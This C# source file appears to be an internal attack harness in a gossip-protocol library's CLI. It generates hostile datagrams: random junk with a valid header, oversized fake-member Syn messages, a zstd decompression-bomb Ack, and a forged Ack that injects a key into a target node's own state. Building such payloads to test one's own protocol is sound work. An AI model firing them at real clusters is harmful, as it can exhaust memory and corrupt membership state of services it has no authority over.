using System.Globalization;
using System.Net;
using Chitchat.Wire;

namespace Chitchat.Cli.Attack;

/// <summary>Builds the hostile datagrams of each <see cref="AttackKind"/>.</summary>
internal sealed class AttackPayloads
{
    /// <summary>The digest of a fake-members Syn stops growing at this many bytes (a datagram holds 65,507).</summary>
    private const int FakeDigestBudget = 64_000;

    /// <summary>The keys a zstd-bomb Ack decodes to by default: 60 of 60,000 bytes, 3.6 MB from 5.8 KB.</summary>
    public const int DefaultBombKeyCount = 60;

    private const int BombKeyLength = 60_000;

    private readonly AttackKind _kind;
    private readonly string _clusterId;
    private readonly ChitchatId? _targetId;
    private readonly ulong _targetMaxVersion;
    private readonly Random _random;
    private readonly byte[]? _fixed;
    private readonly int _bombKeyCount;
    private long _sequence;

    public AttackPayloads(AttackKind kind, string clusterId, ChitchatId? targetId, ulong targetMaxVersion, int seed, int bombKeyCount = DefaultBombKeyCount)
    {
        _bombKeyCount = bombKeyCount;
        _kind = kind;
        _clusterId = clusterId;
        _targetId = targetId;
        _targetMaxVersion = targetMaxVersion;
        _random = new Random(seed);
        _fixed = kind switch
        {
            AttackKind.EmptySyn => new ChitchatMessage.Syn(clusterId, new Digest()).SerializeToArray(),
            AttackKind.UnsolicitedSynAck => new ChitchatMessage.SynAck(new Digest(), Delta.Empty).SerializeToArray(),
            _ => null,
        };
    }

    /// <summary>The key a forged-self attack writes into the target's own state.</summary>
    public const string ForgedKey = "forged_by_attack";

    /// <summary>Returns the next datagram.</summary>
    public byte[] Next()
    {
        _sequence++;
        return _fixed ?? _kind switch
        {
            AttackKind.Garbage => Garbage(),
            AttackKind.FakeMembers => FakeMembersSyn(),
            AttackKind.ZstdBomb => ZstdBombAck(),
            AttackKind.ForgedSelf => ForgedSelfAck(),
            _ => throw new InvalidOperationException($"no payload for {_kind}"),
        };
    }

    private byte[] Garbage()
    {
        var datagram = new byte[_random.Next(1, 1_201)];
        _random.NextBytes(datagram);
        if (_sequence % 4 == 0 && datagram.Length >= 4)
        {
            // A valid header (magic, version 0 or 1, a message type) in front of junk.
            datagram[0] = 0x53;
            datagram[1] = 0xb0;
            datagram[2] = (byte)_random.Next(0, 2);
            datagram[3] = (byte)_random.Next(0, 4);
        }

        return datagram;
    }

    private ChitchatId FakeId() =>
        new(
            "fake-" + _random.NextInt64().ToString("x16", CultureInfo.InvariantCulture),
            (ulong)_random.NextInt64(1, long.MaxValue),
            new IPEndPoint(IPAddress.Loopback, _random.Next(1_024, 65_536)));

    private byte[] FakeMembersSyn()
    {
        var digest = new Digest();
        var sample = FakeId();

        // Node id (2 + 21), generation (8), address (1 + 4 + 2), heartbeat, last gc and max version (24).
        var entryLength = 2 + sample.NodeId.Length + 8 + 7 + 24;
        for (var length = 0; length + entryLength < FakeDigestBudget; length += entryLength)
        {
            digest.Add(FakeId(), (ulong)_random.Next(1, 1_000_000), 0, (ulong)_random.Next(1, 1_000_000));
        }

        var syn = new ChitchatMessage.Syn(_clusterId, digest);
        return syn.SerializedLength <= 65_507 ? syn.SerializeToArray() : new ChitchatMessage.Syn(_clusterId, new Digest()).SerializeToArray();
    }

    private byte[] ZstdBombAck()
    {
        var filler = new string('z', BombKeyLength);
        var keyValues = new List<KeyValueMutation>(_bombKeyCount);
        for (var i = 0; i < _bombKeyCount; i++)
        {
            keyValues.Add(new KeyValueMutation(string.Concat(i.ToString("D3", CultureInfo.InvariantCulture), filler), "v", (ulong)i + 1, DeletionStatus.Set));
        }

        var delta = Delta.FromNodeDeltas([new NodeDelta(FakeId(), 0, 0, (ulong)_bombKeyCount, keyValues)]);
        return new ChitchatMessage.Ack(delta).SerializeToArray();
    }

    private byte[] ForgedSelfAck()
    {
        var id = _targetId ?? throw new InvalidOperationException("the target's own id is needed");
        var version = _targetMaxVersion + 1_000_000 + (ulong)_sequence;
        var keyValues = new[] { new KeyValueMutation(ForgedKey, $"forged-{_sequence}", version, DeletionStatus.Set) };
        var delta = Delta.FromNodeDeltas([new NodeDelta(id, 0, _targetMaxVersion, version, keyValues)]);
        return new ChitchatMessage.Ack(delta).SerializeToArray();
    }
}
